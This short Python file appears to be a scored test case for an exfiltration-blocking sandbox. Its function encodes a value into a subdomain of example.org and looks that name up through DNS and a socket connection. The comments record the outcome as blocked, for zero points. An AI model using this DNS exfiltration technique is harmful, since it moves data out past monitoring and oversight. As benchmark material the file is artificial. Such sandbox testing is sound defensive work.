# attacks: asks the domain name system, with the data in the name
# outcome: db error|forbidden
# points: 0
import socket


def db(dZ):
    socket.getaddrinfo(f"x{int(dZ.size)}.example.org", 80)
    socket.create_connection((f"x{int(dZ.size)}.example.org", 80), 1)
